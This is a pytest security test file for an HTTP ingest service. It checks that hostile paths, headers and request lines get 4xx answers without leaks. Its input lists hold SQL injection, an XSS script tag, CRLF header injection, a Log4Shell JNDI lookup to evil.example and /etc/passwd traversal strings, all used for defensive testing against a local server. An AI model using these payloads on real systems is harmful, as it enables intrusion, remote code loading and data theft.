"""Requests that mean harm: each is refused in words, or does no more than it says."""

import asyncio
import re
from collections.abc import AsyncIterator, Iterator
from itertools import product
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from aiohttp.test_utils import TestClient, TestServer
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from yarl import URL

from ingest.app import create_app
from tests.conftest import settings_in
from tests.support.contract import keep_contract, operations, resolved
from tests.support.hostile import SEGMENTS, TEXTS
from tests.support.scripted_job import ScriptedJob
from tests.support.service import DEADLINE_S, Client, get, use_jobs

#: Headers of every request that is sent as bytes.
LOCAL = b"Host: localhost\r\nConnection: close\r\n"

pytestmark = pytest.mark.asyncio(loop_scope="session")


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def target(
    tmp_path_factory: pytest.TempPathFactory, empty_database: Path, sample_bank: Path
) -> AsyncIterator[Client]:
    """A client of a service whose jobs run until they are told to stop, and then end."""
    jobs = [ScriptedJob(), ScriptedJob(name="itemMigrationJob")]
    for job in jobs:
        job.may_wind_down.set()
    app = create_app(settings_in(tmp_path_factory.mktemp("target"), empty_database, sample_bank))
    use_jobs(app, *jobs)
    async with TestClient(TestServer(app)) as client:
        yield client


PATHS = [(method, path) for method, path, _ in operations() if "{" in path]


@pytest.mark.parametrize(("method", "path"), PATHS)
async def test_no_trick_in_a_path_is_an_id(target: Client, method: str, path: str) -> None:
    """What is no id is a 400 or a 404, whatever it is encoded as; nothing else is done."""
    for segment in SEGMENTS:
        address = URL(re.sub(r"\{\w+\}", segment.replace("\\", r"\\"), path), encoded=True)
        response = await target.request(method, address)
        text = await response.text()
        assert response.status in (400, 404), (address, text)
        assert text.isprintable(), address
        assert "Set-Cookie" not in response.headers
    assert (await get(target, "/executions"))["executions"] == []


def queries() -> Iterator[Any]:
    """Yield each operation's query parameters, with an address to call it by."""
    for method, path, operation in operations():
        address = re.sub(r"\{\w+\}", "1", path)
        for one in map(resolved, operation["parameters"]):
            if one["in"] == "query":
                yield pytest.param(
                    method, address, one["name"], id=f"{method} {path} {one['name']}"
                )


@pytest.mark.parametrize(("method", "path", "name"), list(queries()))
async def test_hostile_values_keep_the_contract(
    target: Client, method: str, path: str, name: str
) -> None:
    """Any value of any query parameter gets an answer that is described, and no fault."""
    for text in TEXTS:
        # Longer ones do not fit into what a test server takes as a request's first line.
        value = (
            text if len(URL("/").with_query({name: text}).raw_query_string) < 6000 else text[:200]
        )
        response = await target.request(method, URL(path).with_query({name: value}))
        await keep_contract(response)
        assert response.status < 500


READS = [one for one in queries() if one.values[0] == "GET"]


@settings(
    max_examples=400,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    place=st.sampled_from(READS),
    value=st.text(max_size=150) | st.integers().map(str) | st.sampled_from(TEXTS[:40]),
)
async def test_whatever_is_asked_for_keeps_the_contract(
    standing: Client, place: Any, value: str
) -> None:
    """Any text at all, for any query parameter of what only looks, gets an answer as described."""
    method, path, name = place.values
    response = await standing.request(method, URL(path).with_query({name: value}))
    await keep_contract(response)
    assert response.status < 500


async def test_an_expectation_that_is_not_known_is_ignored(standing: Client) -> None:
    """Only 100-continue is answered with one; whatever else is expected changes nothing."""
    for path, status in ((b"/jobs", b"200"), (b"/nowhere", b"404")):
        for expected in (b"100-continue", b"\xff\xfe", b"tea", b"100-Continue, tea"):
            request = (
                b"GET %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nExpect: %s\r\n\r\n"
            )
            answer = await raw(standing, request % (path, expected))
            first = b"100" if expected == b"100-continue" else status
            assert answer.split(b" ", 2)[1] == first
            assert b"HTTP/1.1 %s " % status in answer


async def raw(client: Client, request: bytes) -> bytes:
    """Send bytes; return all that comes back until the other side closes."""
    server = client.server
    reader, writer = await asyncio.open_connection(server.host, server.port)
    try:
        writer.write(request)
        async with asyncio.timeout(DEADLINE_S):
            return await reader.read()
    finally:
        writer.close()


HEADERS = [
    *("X-Request-ID", "Prefer", "Accept", "Accept-Encoding", "Authorization", "If-None-Match"),
    *("If-Match", "Range", "Content-Type", "Cookie", "Expect", "Forwarded", "X-Forwarded-For"),
    *("User-Agent", "Upgrade", "Origin", "Referer", "X-HTTP-Method-Override", "Last-Event-ID"),
]
VALUES = [
    b"",
    b" ",
    b"\xff\xfe\xfd",
    b"\xc3\x28",
    b"\xe9t\xe9",
    "😀".encode(),
    b"\x7f",
    b"\x80\x9b31m",
    b"\t\t",
    b"a" * 8000,
    b",,,,",
    b";;;===",
    b'"',
    b"\\",
    b"wait=",
    b"wait=-1",
    b"wait=99999999999999999999",
    b'wait="1" ; x="',
    b"application/json;q=q",
    b"*/*;q=",
    b"'; DROP TABLE item; --",
    b"<script>alert(1)</script>",
    b"%0d%0aX-Evil: 1",
    b"${jndi:ldap://evil.example/a}",
    b"Bearer " + b"\xff" * 40,
    b"bytes=0-0,0-0,5-1",
]


@pytest.mark.parametrize("name", HEADERS)
async def test_no_header_is_a_fault(standing: Client, name: str) -> None:
    """Whatever bytes a header has, the answer is none of the service's faults, and as it was."""
    requests = (b"GET /executions/99", b"PUT /abandon/99", b"GET /docs", b"GET /jobs")
    for start, value in product(requests, VALUES):
        head = b"%s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" % start
        answer = await raw(standing, head + name.encode() + b": " + value + b"\r\n\r\n")
        answered, _, body = answer.partition(b"\r\n\r\n")
        assert re.match(rb"HTTP/1\.[01] [234]\d\d ", answered), (start, value, answered)
        lines = answered.split(b"\r\n")[1:]
        assert all(re.fullmatch(rb"[A-Za-z-]+: [\x20-\x7e]*", line) for line in lines), answered
        assert not any(line.lower().startswith(b"x-evil") for line in lines)
        if start.endswith(b"99"):
            assert all(one.isprintable() or one == "\n" for one in body.decode()), body


@pytest.mark.parametrize("byte", [b"\0", b"\x01", b"\x0b", b"\x1b", b"\n", b"\r"])
async def test_controls_in_headers_are_refused(standing: Client, byte: bytes) -> None:
    """Control characters in a header's value end in a 400, or in the next header; no fault."""
    request = (
        b"GET /jobs HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nX-Request-ID: a%sb\r\n\r\n"
    )
    assert (await raw(standing, request % byte)).split(b" ", 2)[1] == b"400"


@pytest.mark.parametrize(
    ("accept", "is_json"),
    [
        ("application/json", True),
        ("APPLICATION/JSON", True),
        ("application/problem+json", True),
        ("text/html, application/json;q=0.1", True),
        ("application/json ; charset=utf-8 ; q=1", True),
        ("application/json;q=0.001", True),
        ("application/json;q=0", False),
        ("application/json;q=0.000", False),
        ("application/json ; Q=0.0", False),
        ("application/json;q=0, application/problem+json", True),
        ("*/*", False),
        ("application/*", False),
        ("text/plain", False),
        ("text/plain;x=application/json", False),
        ("application/jsonp", False),
        ("", False),
        (",,;,", False),
        ("application/json;q=nonsense", True),
    ],
)
async def test_errors_come_as_they_are_asked_for(
    standing: Client,
    accept: str,
    is_json: bool,  # noqa: FBT001 - a column of the table
) -> None:
    """A JSON type that is named gets a problem document, unless its weight says not to."""
    response = await standing.get("/executions/99", headers={"Accept": accept})
    assert response.status == 404
    expected = "application/problem+json" if is_json else "text/plain"
    assert response.content_type == expected
    await keep_contract(response)


async def test_ids_of_requests_do_no_harm(standing: Client) -> None:
    """An id that is not printable ASCII, or too long, is not sent back."""
    for given_id in ("a" * 129, "é", "a\tb", "a b"):
        response = await standing.get("/jobs", headers={"X-Request-ID": given_id})
        assert response.headers["X-Request-ID"] != given_id
        assert re.fullmatch("[0-9a-f]{32}", response.headers["X-Request-ID"])


@pytest.mark.parametrize(
    "request_line",
    [
        b"GET //evil.example/ HTTP/1.1",
        b"GET http://evil.example/jobs HTTP/1.1",
        b"GET /../../etc/passwd HTTP/1.1",
        b"GET /static/../../errors.py HTTP/1.1",
        b"GET /static/..%2f..%2ferrors.py HTTP/1.1",
        b"GET /jobs#fragment HTTP/1.1",
        b"GET jobs HTTP/1.1",
        b"GET * HTTP/1.1",
        b"OPTIONS * HTTP/1.1",
        b"CONNECT evil.example:443 HTTP/1.1",
        b"TRACE / HTTP/1.1",
        b"PROPFIND / HTTP/1.1",
        b"get /jobs HTTP/1.1",
        b"GET /jobs HTTP/1.0",
        b"GET /\xff\xfe HTTP/1.1",
        b"GET /executions/%1b%5b31m HTTP/1.1",
        b"GET /jobs?\xc3\x28=\xff HTTP/1.1",
        b"PUT /abandon/1%2f..%2f2 HTTP/1.1",
        b"PUT /abandon//1 HTTP/1.1",
        b"PUT /abandon/1/ HTTP/1.1",
        b"PUT /abandon/./1 HTTP/1.1",
        b"GET /" + b"%2e%2e%2f" * 800 + b" HTTP/1.1",
    ],
)
async def test_odd_request_lines_are_no_fault(standing: Client, request_line: bytes) -> None:
    """Whatever the first line says, the answer is no fault, and nothing from outside is read."""
    answer = await raw(standing, request_line + b"\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    assert re.match(rb"HTTP/1\.[01] [234]\d\d ", answer), answer
    assert b"root:" not in answer
    assert b"import " not in answer
